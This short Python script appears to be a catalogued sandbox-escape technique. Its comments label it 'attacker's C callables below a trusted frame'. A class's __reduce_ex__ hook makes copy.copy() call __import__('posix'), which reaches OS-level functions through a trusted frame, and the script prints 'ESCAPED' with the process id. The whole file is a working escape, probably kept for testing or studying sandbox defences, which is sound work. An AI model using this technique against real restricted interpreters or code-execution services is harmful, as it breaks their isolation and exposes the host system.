# technique: the same with __import__
# goal: import
# source: own analysis: attacker's C callables below a trusted frame
import copy


class Carrier:
    def __reduce_ex__(self, version):
        return __import__, ('posix',)


print('ESCAPED pid=%d' % copy.copy(Carrier()).getpid())
